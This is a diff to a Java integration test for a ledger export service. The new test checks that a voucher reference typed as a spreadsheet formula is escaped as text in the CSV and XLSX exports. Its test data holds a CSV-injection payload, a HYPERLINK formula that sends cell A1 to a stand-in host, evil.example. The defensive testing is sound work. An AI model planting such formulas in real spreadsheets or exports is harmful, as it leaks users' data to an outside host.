@@ -9,6 +9,7 @@ import org.apache.commons.csv.CSVRecord;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.text.PDFTextStripper;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
@@ -125,6 +126,41 @@ class ExportIT {
             Row k1 = rowWith(sheet, columns.get("entryId"), "K-1", columns.get("entryId"), "K-1");
             assertThat(money(k1, columns.get("receivedCash"))).isEqualTo("-200000.00");
             assertThat(k1.getCell(columns.get("eventId")).getStringCellValue()).isEqualTo(correction.get("eventId"));
+        }
+    }
+
+    /**
+     * CSV injection: a voucher reference typed as a spreadsheet formula comes back from ledger.csv as text (a leading
+     * single quote), while the negative amount of a correction in the same file stays a number; the spreadsheet
+     * export keeps the typed text as a text cell, which Excel never evaluates.
+     */
+    @Test
+    void aVoucherReferenceTypedAsAFormulaIsExportedAsTextAndAmountsStayNumbers() throws IOException {
+        String platform = "EXP-FORMULA";
+        String hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+        Commands commands = new Commands(ledger.commands);
+        commands.approvedPlatform(platform, "8700000002");
+        expect(commands.post(platform, "installments", """
+                {"entryId":"I-HOSTILE","source":"COLLEGE","form":"CASH","amount":"5000000.00","effectiveDate":"2020-05-01",
+                 "voucherRef":"%s"}""".formatted(hostile.replace("\"", "\\\""))), 201);
+        long last = commands.correction(platform, "K-HOSTILE", "I-HOSTILE", "4800000.00");
+        expect(ledger.queries.get("/api/v1/platforms/" + platform + "?minVersion=" + last), 200);
+
+        List<CSVRecord> rows = csv(download("/api/v1/platforms/" + platform + "/ledger.csv", "auditor"));
+        CSVRecord installment = rows.stream().filter(r -> r.get("entryId").equals("I-HOSTILE")).findFirst().orElseThrow();
+        assertThat(installment.get("voucherRef")).isEqualTo("'" + hostile);
+        assertThat(installment.get("receivedCash")).isEqualTo("5000000.00");
+        CSVRecord correction = rows.stream().filter(r -> r.get("entryId").equals("K-HOSTILE")).findFirst().orElseThrow();
+        assertThat(correction.get("receivedCash")).isEqualTo("-200000.00");
+        assertThat(rows).allSatisfy(row -> row.forEach(cell -> assertThat(cell).doesNotStartWith("=")));
+
+        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
+                download("/api/v1/platforms/" + platform + "/ledger.xlsx", "auditor").bytes()))) {
+            Sheet sheet = book.getSheetAt(0);
+            Map<String, Integer> columns = columns(sheet);
+            Row row = rowWith(sheet, columns.get("entryId"), "I-HOSTILE", columns.get("entryId"), "I-HOSTILE");
+            assertThat(row.getCell(columns.get("voucherRef")).getCellType()).isEqualTo(CellType.STRING);
+            assertThat(row.getCell(columns.get("voucherRef")).getStringCellValue()).isEqualTo(hostile);
         }
     }
 
